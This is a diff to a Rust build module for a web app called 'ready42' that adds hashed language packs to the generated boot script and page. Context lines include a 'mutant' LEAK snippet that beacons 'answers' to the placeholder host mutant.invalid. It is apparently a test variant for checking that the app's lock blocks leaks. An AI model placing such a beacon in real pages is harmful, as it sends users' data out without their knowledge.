@@ -7,11 +7,12 @@ use crate::args::DistOptions;
 use crate::compress::{Encoded, encode};
 use crate::fault::Fault;
 use crate::headers::{self, LOCK, POLICY};
+use crate::languages::Language;
 use crate::project::{Project, files, write};
 use crate::size::{self, Size};
 use crate::template::fill;
 use crate::wasm::Built;
-use crate::{budget, hash, hosts, manifest, wasm};
+use crate::{budget, hash, hosts, languages, manifest, wasm};
 
 /// Where the styles are; they are put together in the order of their names.
 const STYLES: &str = "crates/ready42-ui/styles";
@@ -86,13 +87,20 @@ fn lay_out(project: &Project, kind: Kind, built: &Built, to: &Path) -> Result<Ve
         sizes.push(publish(to, kind, &name, bytes)?);
         Ok(name)
     };
-    let mut hashed =
-        |kind, stem, extension, bytes: &[u8]| add(kind, hash::named(stem, extension, bytes), bytes);
+    let mut hashed = |kind, stem: &str, extension: &str, bytes: &[u8]| {
+        add(kind, hash::named(stem, extension, bytes), bytes)
+    };
     let wasm = hashed("wasm", "ready42", "wasm", &built.wasm)?;
     let glue = hashed("glue", "ready42", "js", built.glue.as_bytes())?;
     let style = hashed("css", "style", "css", styles(project)?.as_bytes())?;
     let icon = data_uri(project.read("web/icon.svg")?.trim());
-    let boot = boot(project, kind, &glue, &wasm)?;
+    let mut languages = languages::build(project)?;
+    for language in &mut languages {
+        if let Some(pack) = &language.pack {
+            language.name = Some(hashed("language", &language.code, "txt", pack)?);
+        }
+    }
+    let boot = boot(project, kind, &glue, &wasm, &languages)?;
     let boot = hashed("boot", "boot", "js", boot.as_bytes())?;
     let page = fill(
         &project.path("web/index.html"),
@@ -104,10 +112,12 @@ fn lay_out(project: &Project, kind: Kind, built: &Built, to: &Path) -> Result<Ve
             ("\"style.css\"", 1, &format!("\"{style}\"")),
             ("\"icon.svg\"", 1, &format!("\"{icon}\"")),
             ("\"boot.js\"", 1, &format!("\"{boot}\"")),
+            ("@scripts@", 1, &languages::scripts(&languages)),
         ],
     )?;
     add("html", "index.html".to_owned(), page.as_bytes())?;
-    let mut kept = [wasm, glue, style, boot];
+    let mut kept = vec![wasm, glue, style, boot];
+    kept.extend(languages.into_iter().filter_map(|language| language.name));
     kept.sort();
     for (name, text) in hosts::all(&kept) {
         write(&to.join(name), text)?;
@@ -156,7 +166,13 @@ fn data_uri(svg: &str) -> String {
 }
 
 /// The boot script with its names filled in; the mutant's leaks instead of locking itself.
-fn boot(project: &Project, kind: Kind, glue: &str, wasm: &str) -> Result<String, Fault> {
+fn boot(
+    project: &Project,
+    kind: Kind,
+    glue: &str,
+    wasm: &str,
+    languages: &[Language],
+) -> Result<String, Fault> {
     const LEAK: &str = "setTimeout(() => {
     fetch(new URL(\"mutant-fetch\", document.baseURI)).catch(() => {});
     navigator.sendBeacon(\"http://mutant.invalid/beacon\", \"answers\");
@@ -174,6 +190,7 @@ fn boot(project: &Project, kind: Kind, glue: &str, wasm: &str) -> Result<String,
             ("\"./ready42.js\"", 1, &format!("\"./{glue}\"")),
             ("\"./ready42.wasm\"", 1, &format!("\"./{wasm}\"")),
             ("@lock@", 1, LOCK),
+            ("\"@languages@\"", 1, &languages::table(languages)),
             ("  lock();\n", 1, &format!("  {call}\n")),
         ],
     )
